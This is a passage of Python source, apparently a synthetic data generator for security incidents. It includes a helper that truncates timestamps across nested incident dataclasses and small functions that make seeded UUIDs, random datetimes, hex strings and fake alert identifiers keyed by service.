    """``value`` with every time stamp in it (incident, comments, alerts, entities) cut to whole ``microseconds``.

    Devices are shared by the tenant's incidents and keep theirs.
    """
    if microseconds == 1 or isinstance(value, Device):
        return value
    if isinstance(value, datetime.datetime):
        return value - datetime.timedelta(microseconds=value.microsecond % microseconds)
    if isinstance(value, tuple):
        return tuple(_truncated(item, microseconds) for item in value)
    if isinstance(value, dict):
        return {key: _truncated(item, microseconds) for key, item in value.items()}
    if dataclasses.is_dataclass(value):
        return dataclasses.replace(value, **{item.name: _truncated(getattr(value, item.name), microseconds)
                                             for item in dataclasses.fields(value)})
    return value


def _stable_uuid(seed: str) -> str:
    return str(uuid.UUID(int=random.Random(seed).getrandbits(128), version=4))


def _between(rng: random.Random, earliest: datetime.datetime, latest: datetime.datetime) -> datetime.datetime:
    return earliest + (latest - earliest) * rng.random()


def _alert_id(rng: random.Random, service: str) -> str:
    prefix = {"endpoint": "da", "office": "fa", "identity": "aa", "cloudapps": "ca", "entra": "ad"}.get(service, "ed")
    return f"{prefix}{rng.randint(10 ** 17, 10 ** 18 - 1)}_{rng.randint(10 ** 8, 10 ** 10)}"


def _hex(rng: random.Random, digits: int) -> str:
    return f"{rng.getrandbits(digits * 4):0{digits}x}"


def _uuid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))
